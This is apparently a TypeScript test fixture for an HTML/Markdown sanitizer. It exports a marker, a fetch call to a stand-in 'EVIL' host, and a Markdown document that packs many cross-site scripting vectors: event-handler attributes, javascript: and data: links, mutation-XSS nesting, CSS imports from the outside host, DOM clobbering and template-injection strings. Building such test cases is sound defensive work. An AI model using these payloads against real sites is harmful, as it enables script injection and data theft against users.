/** What every hostile text attempts: success leaves this mark, or a request to the other host. */
export const MARK = 'globalThis.abused=1';
export const CALL = `${MARK};fetch('http://EVIL/called')`;

/** A document with every attack; `EVIL` stands for the other host. */
export const HOSTILE = `---
title: '<img src=x onerror="${MARK}">'
header-includes: <script>${MARK}</script>
lang: '"><script>${MARK}</script>'
---

# Heading {#location onclick="${MARK}"} <svg/onload=${MARK}>

[a](javascript:${MARK}) [b](JaVaScRiPt:${MARK}) [c](java&#10;script:${MARK}) [d](&#106;avascript:${MARK})
[e](data:text/html,<script>${MARK}</script>) [f](vbscript:x) [g](blob:http://EVIL/x) <javascript:${MARK}>
[h][ref] ![i](javascript:${MARK}) ![j](x" onerror="${MARK}) ![k](http://EVIL/picture.png)

[ref]: javascript:${MARK}

<img src=x onerror="${MARK}"><svg/onload=${MARK}><details open ontoggle=${MARK}>x</details>
<math><mtext><table><mglyph><style><img src=x onerror=${MARK}></style></mglyph></table></mtext></math>
<form><button formaction="javascript:${MARK}">x</button></form><iframe srcdoc="<script>${MARK}</script>"></iframe>
<style>@import 'http://EVIL/style.css'; .cm-content{display:none}</style>
<p style="background:url(http://EVIL/style.png)">styled</p><a id=location name=cookie>clobber</a>

| a | b |
|---|---|
| <img src=x onerror=${MARK}> | [x](javascript:${MARK}) |

\`\`\`{.html onclick="${MARK}"} <script>
<script>${MARK}</script>
\`\`\`

<!-- <script>${MARK}</script> --> {{constructor.constructor('${MARK}')()}} \${${MARK}} {@html x}
$\\href{javascript:${MARK}}{x} \\htmlId{location}{y} \\includegraphics{http://EVIL/tex.png}$ [^n]

[^n]: <img src=x onerror=${MARK}>
`;
